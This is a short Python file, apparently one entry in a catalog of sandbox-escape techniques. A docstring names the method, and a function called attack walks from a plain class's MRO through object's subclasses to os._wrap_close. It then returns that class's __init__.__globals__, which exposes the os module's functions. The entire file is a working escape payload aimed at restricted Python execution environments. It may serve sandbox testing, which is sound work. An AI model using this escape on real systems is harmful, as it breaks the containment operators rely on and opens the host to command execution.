"""Class: class machinery. Source: own find. Escape: type.mro without underscores, then subclasses."""


class A:
    pass


def attack(model, tokenizer, address):
    return [c for c in A.mro()[1].__subclasses__() if c.__name__ == "_wrap_close"][
        0
    ].__init__.__globals__
